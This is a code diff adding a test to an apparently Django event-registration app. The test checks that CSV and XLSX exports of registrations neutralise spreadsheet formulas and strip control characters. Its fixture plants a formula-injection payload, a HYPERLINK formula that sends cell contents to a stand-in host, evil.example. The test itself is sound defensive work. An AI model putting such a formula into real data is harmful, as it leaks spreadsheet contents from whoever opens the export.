@@ -124,3 +124,39 @@ def test_emails_do_not_open_with_the_typed_name(event):
     )
     body = mail.outbox[-1].body
     assert body.startswith("Xin chào,") and "Đặng Thị Hương" in body
+
+
+def _download(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+def test_exports_neutralise_formulas_and_survive_control_characters(admin_client, event):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from events.models import Registration
+
+    registration = register_visitor(
+        event,
+        full_name="Tran Van Binh",
+        visit_date=event.start_date + dt.timedelta(days=1),
+        now=event.opens_on(event.start_date) - dt.timedelta(days=2),
+    ).registration
+    # As if stored before the edge refused them: a formula name, a control character.
+    Registration.objects.filter(pk=registration.pk).update(
+        full_name='=HYPERLINK("http://evil.example/?leak="&E2&F2,"Xem chi tiết")',
+        organisation="Truong\u0001ABC",
+    )
+    text = _download(admin_client.get("/admin/registrations/", {"export": "csv"})).decode("utf-8-sig")
+    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in values)
+    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&E2&F2,\"Xem chi tiết\")" in values
+    assert "TruongABC" in values
+    xlsx = admin_client.get("/admin/registrations/", {"export": "xlsx"})
+    assert xlsx.status_code == 200
+    sheet = load_workbook(io.BytesIO(_download(xlsx))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)  # no formula in the workbook
+    assert "TruongABC" in [cell.value for cell in cells]
